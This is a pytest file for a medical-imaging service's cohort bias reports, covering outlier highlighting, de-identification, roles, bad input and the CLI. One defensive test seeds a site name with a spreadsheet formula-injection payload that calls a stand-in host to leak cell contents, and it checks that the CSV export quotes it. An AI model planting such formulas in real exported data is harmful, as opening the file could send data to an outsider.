"""Cohort bias reports over seeded analyses: grouping, highlighting rules, clinicians'
labels, de-identification, the files, bad input, roles, the CLI."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlalchemy import select

from service.analysis.results_files import raw_map_path, save_array, save_map
from service.audit.report_cases import ReportFilters
from service.audit.service import Caller, create_report, report_folder
from service.auth.roles import Role
from service.auth.service import Principal
from service.cli.main import cli
from service.db import session_scope
from service.orm import AccessLogEntry, Decision, Review
from service.runtime import Runtime
from service.settings import Settings, get_settings
from tests.audit_seed import SeedCase, seed
from tests.conftest import bearer
from tests.test_tokens_at_rest import cli_env

REPORTS = "/api/v1/audit/reports"
ADMIN = Principal(user_pk=None, username="admin-test", role=Role.ADMIN)
AUDITOR = Principal(user_pk=None, username="auditor-test", role=Role.AUDITOR)


def cases_at(site: str, n: int, flagged: int, **extra: Any) -> list[SeedCase]:
    """n cases at one site, exactly ``flagged`` of them flagged (flags on the border)."""
    return [
        SeedCase(
            institution=site,
            station=f"ST-{site[-1]}",
            flags=("border",) if i < flagged else (),
            border_share=0.4 if i < flagged else 0.05,
            probability=0.9 if i % 2 else 0.2,
            **extra,
        )
        for i in range(n)
    ]


def planted_cohort() -> list[SeedCase]:
    """Five ordinary sites (40 each, 8 flagged), one big outlier (40, 36 flagged) and one
    small outlier (12, all flagged: too few to test)."""
    ordinary = [c for s in "PQRST" for c in cases_at(f"Site {s}", 40, 8)]
    return ordinary + cases_at("Site B", 40, 36) + cases_at("Site C", 12, 12)


def add_cases(runtime: Runtime, cases: list[SeedCase]) -> list[uuid.UUID]:
    with session_scope(runtime.session_factory) as session:
        return seed(session, cases)


def build(runtime: Runtime, settings: Settings, **filters: Any) -> tuple[Any, dict[str, Any]]:
    principal = filters.pop("principal", ADMIN)
    row = create_report(
        session_factory=runtime.session_factory,
        settings=settings,
        filters=ReportFilters(**filters),
        caller=Caller(principal),
    )
    folder = report_folder(settings, row.id)
    return row, json.loads((folder / "report.json").read_text())


def section(document: dict[str, Any], attribute: str) -> dict[str, dict[str, Any]]:
    [found] = [s for s in document["report"]["attributes"] if s["attribute"] == attribute]
    return {g["value"]: g for g in found["groups"]}


def test_a_big_outlier_site_is_highlighted_and_a_small_one_is_not(
    runtime: Runtime, settings: Settings
) -> None:
    add_cases(runtime, planted_cohort())
    row, document = build(runtime, settings)
    sites = section(document, "InstitutionName")
    assert sites["Site B"]["n"] == 40 and sites["Site B"]["flag_rate"]["rate"] == 0.9
    assert sites["Site B"]["highlighted"]
    [flag_test] = [t for t in sites["Site B"]["tests"] if t["outcome"] == "flag_rate"]
    assert flag_test["q"] < 0.05 and flag_test["ci_low"] > 0
    # The small site flags everything, yet n = 12 < 30: shown, never tested or highlighted.
    assert sites["Site C"]["flag_rate"]["rate"] == 1.0
    assert sites["Site C"]["tests"] == [] and not sites["Site C"]["highlighted"]
    highlighted_sites = {
        h["group"] for h in document["report"]["highlights"] if h["attribute"] == "InstitutionName"
    }
    assert "Site B" in highlighted_sites and "Site C" not in highlighted_sites
    assert row.status.value == "done" and row.analyses == 252 and row.highlighted >= 1
    # The per-group plot marks the outlier; the table row is highlighted.
    html = (report_folder(settings, row.id) / "report.html").read_text()
    assert "Site B (n=40)" in html and 'class="highlighted"' in html


def test_groups_cover_equipment_patient_and_burned_in_annotation(
    runtime: Runtime, settings: Settings
) -> None:
    add_cases(
        runtime,
        [
            SeedCase(age="035Y", sex="M", burned_in="YES", view="AP"),
            SeedCase(age="072Y", sex="F", burned_in="NO"),
            SeedCase(age="", sex="", burned_in=""),
            SeedCase(age="006M", manufacturer="Other"),
        ],
    )
    _row, document = build(runtime, settings)
    assert set(section(document, "AgeBand")) == {"<40", "60–79", "unknown"}
    assert section(document, "AgeBand")["<40"]["n"] == 2  # 35 years, and 6 months
    assert set(section(document, "BurnedInAnnotation")) == {"YES", "NO", "(blank)"}
    assert set(section(document, "PatientSex")) == {"M", "F", "(blank)"}
    assert set(section(document, "ViewPosition")) == {"AP", "PA"}
    assert section(document, "Manufacturer")["Other"]["n"] == 1


def test_no_reviews_yet_is_said_and_reviews_give_auroc_and_calibration(
    runtime: Runtime, settings: Settings
) -> None:
    ids = add_cases(runtime, [SeedCase(probability=p) for p in np.linspace(0.05, 0.95, 20)])
    _row, document = build(runtime, settings)
    clinicians = document["report"]["summary"]["clinicians"]
    assert clinicians["reviewed"] == 0 and "No reviews yet" in clinicians["note"]
    with session_scope(runtime.session_factory) as session:
        for i, analysis_id in enumerate(ids):
            finding = "lesion" if i >= 10 else "no finding"  # the top half has the finding
            decision = Decision.UNCERTAIN if i == 0 else Decision.AGREE
            session.add(
                Review(analysis_pk=analysis_id, user_pk=None, token_pk=None, username="dr",
                       role="clinician", channel="api", decision=decision, finding_label=finding)
            )  # fmt: skip
    _row, document = build(runtime, settings)
    clinicians = document["report"]["summary"]["clinicians"]
    assert clinicians["reviewed"] == 19  # the uncertain decision is left out
    assert clinicians["auroc"]["estimate"] == 1.0
    assert 0 <= clinicians["ece"] <= 1 and len(clinicians["reliability"]) == 10


def test_reports_leave_identifiers_out_unless_an_admin_asks(
    runtime: Runtime, settings: Settings
) -> None:
    secret = [SeedCase(patient_id="PID-SECRET-1", patient_name="Secret^Person", flags=("border",))]
    [analysis_id] = add_cases(runtime, secret)
    row, _document = build(runtime, settings)
    folder = report_folder(settings, row.id)
    for name in ("report.html", "report.json", "report.csv"):
        text = (folder / name).read_text()
        assert "SECRET" not in text.upper() and str(analysis_id) not in text, name
    with pytest.raises(Exception, match="admins only"):
        build(runtime, settings, include_identifiers=True, principal=AUDITOR)
    row, document = build(runtime, settings, include_identifiers=True)
    [item] = document["report"]["gallery"]
    assert item["identifiers"]["patient_id"] == "PID-SECRET-1"
    assert item["analysis_id"] == str(analysis_id) and document["identified"]
    assert "PID-SECRET-1" in (report_folder(settings, row.id) / "report.html").read_text()


def test_files_are_written_with_a_gallery_of_the_most_flagged(
    runtime: Runtime, settings: Settings
) -> None:
    flagged = SeedCase(flags=("border", "peak-on-marker"), burned_in="YES", boxes=("10,10,30,40",))
    ids = add_cases(runtime, [flagged, SeedCase(flags=("border",)), SeedCase()])
    display = np.full((64, 80), 90, dtype=np.uint8)
    display[10:30, 10:40] = 255  # the burned-in mark
    heat = np.zeros((64, 80), dtype=np.float32)
    heat[15:25, 15:35] = 1.0
    save_array(raw_map_path(settings.results_path, ids[0], "display"), display)
    save_map(raw_map_path(settings.results_path, ids[0], "gradcam"), heat)
    row, document = build(runtime, settings)
    folder = report_folder(settings, row.id)
    assert {p.name for p in folder.iterdir()} >= {
        "report.html", "report.json", "report.csv", "report.css", "gallery"
    }  # fmt: skip
    gallery = document["report"]["gallery"]
    assert len(gallery) == 2 and gallery[0]["flags"] == ["border", "peak-on-marker"]
    assert gallery[0]["image"] and gallery[1]["image"] is None  # the second has no maps
    png = (folder / gallery[0]["image"]).read_bytes()
    assert png.startswith(b"\x89PNG")
    html = (folder / "report.html").read_text()
    assert gallery[0]["image"] in html and 'href="report.css"' in html
    assert "<svg" in html and "No reviews yet" in html
    rows = list(csv.DictReader(io.StringIO((folder / "report.csv").read_text())))
    assert {r["attribute"] for r in rows} >= {"InstitutionName", "BurnedInAnnotation"}


def test_group_values_a_spreadsheet_would_run_are_quoted_in_the_csv(
    runtime: Runtime, settings: Settings
) -> None:
    """Any sender chooses its InstitutionName; report.csv opens in a spreadsheet."""
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    add_cases(runtime, cases_at(formula, 3, 1) + cases_at("@SUM(1+1)", 3, 1))
    row, _document = build(runtime, settings)
    rows = list(
        csv.DictReader(io.StringIO((report_folder(settings, row.id) / "report.csv").read_text()))
    )
    sites = {r["group"] for r in rows if r["attribute"] == "InstitutionName"}
    assert sites == {f"'{formula}", "'@SUM(1+1)"}
    assert all(not r["group"].startswith(("=", "+", "@")) for r in rows)


def test_progress_is_reported_and_an_access_log_row_written(
    runtime: Runtime, settings: Settings
) -> None:
    add_cases(runtime, planted_cohort()[:60])
    seen: list[tuple[int, int]] = []
    create_report(
        session_factory=runtime.session_factory,
        settings=settings,
        filters=ReportFilters(),
        caller=Caller(AUDITOR),
        on_progress=lambda done, total: seen.append((done, total)),
    )
    assert seen and seen[-1][0] == seen[-1][1]
    assert [d for d, _t in seen] == sorted(d for d, _t in seen)
    with runtime.session_factory() as session:
        logged = session.scalars(
            select(AccessLogEntry).where(AccessLogEntry.action == "audit.report")
        ).all()
    assert [(e.username, e.result_count, e.status_code) for e in logged] == [
        ("auditor-test", 60, 200)
    ]


def test_filters_select_by_date_model_and_site(runtime: Runtime, settings: Settings) -> None:
    march, april = datetime(2026, 3, 5, tzinfo=UTC), datetime(2026, 4, 5, tzinfo=UTC)
    add_cases(
        runtime,
        [
            SeedCase(analysed_at=march, institution="Site A"),
            SeedCase(analysed_at=april, institution="Site A"),
            SeedCase(analysed_at=april, institution="Site B", model="other-model"),
        ],
    )
    d = datetime(2026, 4, 5).date()
    assert build(runtime, settings, date_from=d, date_to=d)[0].analyses == 2
    assert build(runtime, settings, site="Site A")[0].analyses == 2
    assert build(runtime, settings, model="other-model")[0].analyses == 1


# --- over HTTP --------------------------------------------------------------------------------


def test_api_creates_lists_and_serves_reports(
    client: TestClient, runtime: Runtime, tokens: dict[Role, str]
) -> None:
    add_cases(runtime, planted_cohort()[:50])
    auditor = bearer(tokens[Role.AUDITOR])
    answer = client.post(REPORTS, json={"from": "2026-01-01", "to": "2026-12-31"}, headers=auditor)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert body["status"] == "done" and body["analyses"] == 50 and not body["identified"]
    listed = client.get(REPORTS, headers=auditor).json()
    assert [r["id"] for r in listed] == [body["id"]]
    detail = client.get(body["links"]["self"], headers=auditor).json()
    assert detail["content"]["report"]["summary"]["n"] == 50
    page = client.get(body["links"]["html"], headers=auditor)
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    # Its group values are whatever senders wrote: a browser runs no script of theirs.
    assert "default-src 'self'" in page.headers["content-security-policy"]
    assert page.headers["x-content-type-options"] == "nosniff"
    assert client.get(body["links"]["csv"], headers=auditor).text.startswith("attribute,group")
    assert client.get(f"{body['links']['self']}/report.css", headers=auditor).status_code == 200
    missing = client.get(f"{body['links']['self']}/gallery/report.json", headers=auditor)
    assert missing.status_code == 404
    for role in (Role.CLINICIAN, Role.INTEGRATION):
        refused = client.post(REPORTS, json={}, headers=bearer(tokens[role]))
        assert refused.status_code == 403 and role.value in refused.json()["detail"]


def test_identified_reports_are_for_admins_only(
    client: TestClient, runtime: Runtime, tokens: dict[Role, str]
) -> None:
    add_cases(runtime, [SeedCase(flags=("border",))])
    asked = client.post(
        REPORTS, json={"include_identifiers": True}, headers=bearer(tokens[Role.AUDITOR])
    )
    assert asked.status_code == 403 and "admins only" in asked.json()["detail"]
    made = client.post(
        REPORTS, json={"include_identifiers": True}, headers=bearer(tokens[Role.ADMIN])
    ).json()
    assert made["identified"]
    read = client.get(made["links"]["html"], headers=bearer(tokens[Role.AUDITOR]))
    assert read.status_code == 403 and "identifiers" in read.json()["detail"]
    assert client.get(made["links"]["html"], headers=bearer(tokens[Role.ADMIN])).status_code == 200


def test_bad_input_gets_a_clear_error_and_an_empty_cohort_an_empty_report(
    client: TestClient, settings: Settings, tokens: dict[Role, str]
) -> None:
    auditor = bearer(tokens[Role.AUDITOR])
    unknown = client.post(REPORTS, json={"model": "no-such-model"}, headers=auditor)
    assert unknown.status_code == 404
    assert "unknown model 'no-such-model'" in unknown.json()["detail"]
    inverted = client.post(
        REPORTS, json={"from": "2026-05-01", "to": "2026-04-01"}, headers=auditor
    )
    assert inverted.status_code == 400 and "inverted" in inverted.json()["detail"]
    malformed = client.post(REPORTS, json={"from": "yesterday"}, headers=auditor)
    assert malformed.status_code == 422 and "from" in malformed.json()["detail"]
    unexpected = client.post(REPORTS, json={"colour": "red"}, headers=auditor)
    assert unexpected.status_code == 422
    for last_day in ("9999-12-31", "0001-01-01"):  # the calendar's ends: no overflow
        ends = client.post(REPORTS, json={"to": last_day}, headers=auditor)
        assert ends.status_code == 200, ends.text
    nul = client.post(REPORTS, json={"site": "North\u0000"}, headers=auditor)
    assert nul.status_code == 422 and "must not contain NUL" in nul.json()["detail"]
    empty = client.post(REPORTS, json={"site": "Nowhere"}, headers=auditor)
    assert empty.status_code == 200, empty.text
    body = empty.json()
    assert body["analyses"] == 0 and body["summary"]["empty"]
    folder = Path(settings.var_dir) / "reports" / body["id"]
    assert "No analyses match" in (folder / "report.html").read_text()
    assert json.loads((folder / "report.json").read_text())["report"]["empty"] is True
    assert (folder / "report.csv").read_text().startswith("attribute,group,")
    assert client.get(f"{REPORTS}/{uuid.uuid4()}", headers=auditor).status_code == 404


def test_cli_writes_the_report_to_the_folder_asked(
    settings: Settings, runtime: Runtime, tmp_path: Path
) -> None:
    add_cases(runtime, planted_cohort()[:40])
    out = tmp_path / "out"
    get_settings.cache_clear()
    try:
        result = CliRunner().invoke(
            cli, ["audit", "report", "--out", str(out), "--site", "Site P"], env=cli_env(settings)
        )
        inverted = CliRunner().invoke(
            cli,
            ["audit", "report", "--out", str(out), "--from", "2026-02-01", "--to", "2026-01-01"],
            env=cli_env(settings),
        )
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    assert "40 analyses, 8 flagged" in result.output
    assert (out / "report.html").is_file() and (out / "report.csv").is_file()
    assert inverted.exit_code != 0 and "inverted" in inverted.output
